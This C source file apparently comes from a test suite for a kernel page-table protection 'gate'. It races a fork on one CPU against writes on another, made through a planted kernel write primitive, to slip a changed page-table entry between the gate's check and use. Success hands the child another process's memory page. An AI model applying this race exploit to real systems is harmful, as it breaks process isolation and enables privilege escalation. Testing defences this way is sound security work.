/*
 * What two attacks on the gate have it do: share a page for a fork. Where a gate lacks their rule
 * it waits between check and use, and one try is enough; elsewhere they try a few times.
 */
#include <stdbool.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "raw_call.h"

enum { CPU_OF_WRITER, CPU_OF_FORKER = ATTACK_GATE_CPU, NR_CPUS };
enum { STAGE_READY = 1, STAGE_FORK, STAGE_FORKED, NR_STAGES };
enum { ROUNDS = 4000, MET_OFTEN = 8 };
enum { WORD = sizeof(uint64_t), ENTRIES = BW_PAGE_SIZE / WORD, INDEX_SHIFT = 32 };

static attack_stage stage;
static struct bw_leak leak, of_forker;
static struct attack_gate gate;
static char *own_page;
static uint64_t their_pfn;

/* What the gate notes of an entry first: the frame of its table, and which one it is. */
static uint64_t place_word(uint64_t entry_place)
{
	uint64_t table = (entry_place - leak.direct_map_base) / BW_PAGE_SIZE;

	return entry_place % BW_PAGE_SIZE / WORD << INDEX_SHIFT | table;
}

/* A page of the first process's, and alone in its range one of the attack's whose entry is the one
 * in the same place of its table. */
static void choose_pages(void)
{
	struct attack_page theirs;
	uint64_t place = 0, index;
	char *at = mmap(NULL, (size_t)2 * ATTACK_RANGE_BYTES, PROT_NONE,
			MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	gate.done =
		mmap(NULL, BW_PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (at == MAP_FAILED || gate.done == MAP_FAILED ||
	    attack_list_pages(&leak, leak.root_first, &theirs, 1) == 0) {
		attack_skip("no page to be had");
	}
	index = theirs.place % BW_PAGE_SIZE / WORD;
	own_page = at + (-(uintptr_t)at % ATTACK_RANGE_BYTES) + index * BW_PAGE_SIZE;
	mprotect(own_page, BW_PAGE_SIZE, PROT_READ | PROT_WRITE);
	*own_page = 1;
	attack_entry(&leak, leak.root, (uintptr_t)own_page, &place);
	gate.own = place_word(place);
	gate.theirs = place_word(theirs.place);
	their_pfn = attack_entry_frame(theirs.entry);
}

/* ---- The processor that forks ---- */

static void fork_once(void)
{
	static const uint64_t no_arguments[6];
	long child = raw_call(SYS_fork, no_arguments);
	uint64_t pfn;

	if (child == 0) {
		gate.done->is_foreign = bw_pagemap(own_page, &pfn) == 0 && pfn == their_pfn;
		_exit(0);
	}
	if (child > 0) {
		waitpid((pid_t)child, NULL, 0);
	}
}

/* The stages of a round follow those of the one before. */
static void forker(void *unused)
{
	(void)unused;
	attack_leak(&of_forker);
	for (unsigned int nr = 0;; nr++) {
		attack_tell(&stage, nr * NR_STAGES + STAGE_READY);
		attack_await(&stage, nr * NR_STAGES + STAGE_FORK, AWAIT_SPIN);
		fork_once();
		attack_tell(&stage, nr * NR_STAGES + STAGE_FORKED);
		attack_await(&stage, (nr + 1) * NR_STAGES, AWAIT_SPIN);
	}
}

/* ---- The one that stores ---- */

void attack_held_ask(const struct bw_leak *at, uint64_t what)
{
	if (at->gate_held != 0) {
		attack_check("vuln_write", bw_vuln_write(at->gate_held, what));
	}
}

bool attack_held_is_there(const struct bw_leak *at)
{
	return at->gate_held != 0 && bw_vuln_read(at->gate_held + WORD) != 0;
}

void attack_held_release(const struct bw_leak *at)
{
	if (at->gate_held != 0) {
		attack_check("vuln_write", bw_vuln_write(at->gate_held, 0));
		attack_check("vuln_write", bw_vuln_write(at->gate_held + WORD, 0));
	}
}

static void fork_changed(unsigned int nr, void (*change)(const struct attack_gate *gate))
{
	attack_held_ask(&leak, gate.own);
	attack_tell(&stage, nr * NR_STAGES + STAGE_FORK);
	while (stage < nr * NR_STAGES + STAGE_FORKED) {
		if (!gate.waits || attack_held_is_there(&leak)) {
			change(&gate);
			attack_held_release(&leak);
		}
	}
}

int attack_gate_fork(void (*change)(const struct attack_gate *gate))
{
	unsigned int nr = 0;

	attack_begin(&leak, NR_CPUS, CPU_OF_WRITER);
	choose_pages();
	attack_thread(CPU_OF_FORKER, forker, NULL);
	attack_await(&stage, STAGE_READY, AWAIT_SPIN);
	gate.stack = of_forker.gate_stack;
	gate.waits = leak.gate_held != 0;
	attack_say("a fork shows entry %lu of the table in frame 0x%x; that in frame 0x%x is the "
		   "first process's",
		   gate.own >> INDEX_SHIFT, (unsigned)gate.own, (unsigned)gate.theirs);
	for (; nr < ROUNDS && !gate.done->is_foreign && gate.done->nr_met < MET_OFTEN; nr++) {
		attack_await(&stage, nr * NR_STAGES + STAGE_READY, AWAIT_SPIN);
		fork_changed(nr, change);
		attack_tell(&stage, (nr + 1) * NR_STAGES);
	}
	attack_say("after %u forks, %u met on their way, and %u stores the child had %s", nr,
		   gate.done->nr_met, gate.done->nr_stores,
		   gate.done->is_foreign ? "a page of the first process's" : "its own pages");
	return attack_finish();
}
